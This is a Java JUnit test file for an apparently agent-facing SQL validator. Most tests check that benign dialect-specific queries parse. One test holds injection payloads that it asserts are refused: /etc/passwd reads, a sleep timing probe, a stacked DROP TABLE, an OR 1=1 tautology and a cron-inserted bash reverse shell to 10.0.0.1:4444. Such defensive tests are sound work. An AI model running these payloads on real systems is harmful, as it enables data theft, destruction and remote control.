package dev.toolgate.agent.validation.sql;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.toolgate.agent.rules.RulePack;
import dev.toolgate.agent.validation.Verdict;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Benign queries in the syntax of each dialect, under {@code dialect: generic} and under the dialect that has the
 * construct, with the parse strict (no token fallback): they parse, or are restated and parsed.
 */
class SqlConstructsTest {

    private static SqlValidator strictRead(SqlDialect dialect) {
        return new SqlValidator(true, 100_000, 1_000, true, dialect, RulePack.builtIn());
    }

    private static void parsesIn(List<SqlDialect> dialects, String... queries) {
        for (SqlDialect dialect : dialects) {
            SqlValidator validator = strictRead(dialect);
            for (String sql : queries) {
                Verdict verdict = validator.check(sql);
                assertTrue(verdict.allowed(), dialect + ": " + sql + " -> " + verdict.reason());
            }
        }
    }

    private static void refused(SqlValidator validator, String sql) {
        Verdict verdict = validator.check(sql);
        assertFalse(verdict.allowed(), sql);
        assertTrue(verdict.reason() != null && !verdict.reason().isBlank(), sql);
    }

    private static final List<SqlDialect> GENERIC_POSTGRESQL = List.of(SqlDialect.GENERIC, SqlDialect.POSTGRESQL);
    private static final List<SqlDialect> GENERIC_ORACLE = List.of(SqlDialect.GENERIC, SqlDialect.ORACLE);

    @Test
    void distinctOn() {
        parsesIn(GENERIC_POSTGRESQL, "SELECT DISTINCT ON (team) team, player, score FROM results ORDER BY team, score");
    }

    @Test
    void fetchFirst() {
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.POSTGRESQL, SqlDialect.ORACLE, SqlDialect.SQLSERVER),
                "SELECT title FROM books ORDER BY year OFFSET 20 ROWS FETCH NEXT 10 ROWS ONLY");
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.POSTGRESQL, SqlDialect.ORACLE),
                "SELECT title FROM books ORDER BY rating DESC FETCH FIRST 3 ROWS WITH TIES");
    }

    @Test
    void windowFrames() {
        parsesIn(
                GENERIC_POSTGRESQL,
                "SELECT d, avg(v) OVER (ORDER BY d ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) FROM series",
                "SELECT d, sum(v) OVER (ORDER BY d GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING) FROM series",
                "SELECT d, sum(v) OVER (ORDER BY d ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW EXCLUDE CURRENT"
                        + " ROW) FROM series");
    }

    @Test
    void withinGroup() {
        parsesIn(
                GENERIC_POSTGRESQL,
                "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY wait_ms) FROM visits",
                "SELECT mode() WITHIN GROUP (ORDER BY colour) FROM cars",
                "SELECT string_agg(name, ',') WITHIN GROUP (ORDER BY name DESC NULLS LAST) FROM pets");
        parsesIn(GENERIC_ORACLE, "SELECT listagg(city, '; ') WITHIN GROUP (ORDER BY city) FROM offices");
    }

    @Test
    void qualify() {
        parsesIn(
                List.of(SqlDialect.GENERIC),
                "SELECT shop, item, rank() OVER (PARTITION BY shop ORDER BY sold DESC) r FROM stock QUALIFY r <= 3",
                "SELECT shop, count(*) n FROM stock GROUP BY shop HAVING count(*) > 2"
                        + " QUALIFY row_number() OVER (ORDER BY n DESC) = 1 ORDER BY shop",
                "SELECT * FROM (SELECT id, row_number() OVER (ORDER BY id) r FROM logs QUALIFY r < 5) recent",
                "SELECT qualify FROM grades");
    }

    @Test
    void cubeAndRollup() {
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.POSTGRESQL, SqlDialect.ORACLE, SqlDialect.SQLSERVER),
                "SELECT year, region, sum(total) FROM revenue GROUP BY CUBE (year, region)",
                "SELECT year, region, sum(total) FROM revenue GROUP BY ROLLUP (year, region)");
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.MYSQL),
                "SELECT year, sum(total) FROM revenue GROUP BY year WITH ROLLUP");
    }

    @Test
    void tablesample() {
        parsesIn(
                GENERIC_POSTGRESQL,
                "SELECT * FROM clicks TABLESAMPLE SYSTEM (1)",
                "SELECT * FROM clicks TABLESAMPLE BERNOULLI (10) REPEATABLE (7)");
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.HIVE),
                "SELECT * FROM clicks TABLESAMPLE (BUCKET 1 OUT OF 8 ON id)");
    }

    @Test
    void lateralView() {
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.HIVE),
                "SELECT user_id, item FROM carts LATERAL VIEW explode(items) exploded AS item",
                "SELECT user_id, k, v FROM profiles LATERAL VIEW OUTER explode(attrs) e AS k, v");
    }

    @Test
    void jsonConstructors() {
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.POSTGRESQL, SqlDialect.ORACLE, SqlDialect.MYSQL),
                "SELECT JSON_OBJECT(KEY 'sku' VALUE sku, KEY 'qty' VALUE qty) FROM lines",
                "SELECT JSON_OBJECT('sku' VALUE sku ABSENT ON NULL RETURNING CLOB) FROM lines",
                "SELECT JSON_ARRAY(a, b, c NULL ON NULL) FROM triples",
                "SELECT JSON_ARRAYAGG(sku ORDER BY sku RETURNING VARCHAR2(4000)) FROM lines",
                "SELECT JSON_OBJECTAGG(KEY name VALUE price) FROM menu",
                "SELECT JSON_QUERY(doc, '$.items' WITH CONDITIONAL ARRAY WRAPPER) FROM orders",
                "SELECT JSON_VALUE(doc, '$.total' RETURNING NUMBER DEFAULT 0 ON EMPTY) FROM orders");
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.POSTGRESQL),
                "SELECT JSON_OBJECT('sku': sku, 'qty': qty) FROM lines");
    }

    @Test
    void intervalUnits() {
        parsesIn(
                List.of(SqlDialect.GENERIC),
                "SELECT * FROM jobs WHERE started > now() - INTERVAL '2' HOUR",
                "SELECT INTERVAL '1-2' YEAR TO MONTH",
                "SELECT d + INTERVAL 1 QUARTER FROM calendar",
                "SELECT * FROM jobs WHERE started > current_date - INTERVAL '3 weeks'");
    }

    @Test
    void intervalRangesInTheirDialects() {
        parsesIn(
                List.of(SqlDialect.GENERIC, SqlDialect.POSTGRESQL, SqlDialect.HIVE, SqlDialect.ORACLE),
                "SELECT started + INTERVAL '4 5:12' DAY TO MINUTE FROM jobs",
                "SELECT started + INTERVAL '10' MINUTE FROM jobs");
    }

    @Test
    void restatedStatementsAreStillJudgedWhole() {
        SqlValidator generic = strictRead(SqlDialect.GENERIC);
        refused(generic, "SELECT id FROM t QUALIFY (SELECT load_file('/etc/passwd')) IS NOT NULL");
        refused(generic, "SELECT JSON_OBJECT(KEY 'a' VALUE sleep(10)) FROM t");
        refused(generic, "SELECT JSON_OBJECT(KEY 'a' VALUE 1) FROM t; DROP TABLE t");
        refused(generic, "SELECT mode() WITHIN GROUP (ORDER BY pg_read_file('/etc/passwd')) FROM t");
        refused(generic, "SELECT id FROM t QUALIFY rn = 1 OR 1 = 1");
        SqlValidator write = new SqlValidator(false, 100_000, 1_000, true, SqlDialect.GENERIC, RulePack.builtIn());
        refused(
                write,
                "INSERT INTO cron (cmd) SELECT JSON_OBJECT(KEY 'c' VALUE 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')");
    }

    @Test
    void grammarGapsStayReadableDenials() {
        SqlValidator hive = strictRead(SqlDialect.HIVE);
        Verdict verdict = hive.check("SELECT d + INTERVAL '10' MINUTES_PLUS FROM t");
        assertFalse(verdict.allowed());
        assertTrue(verdict.reason().startsWith("the SQL cannot be parsed"), verdict.reason());
    }
}
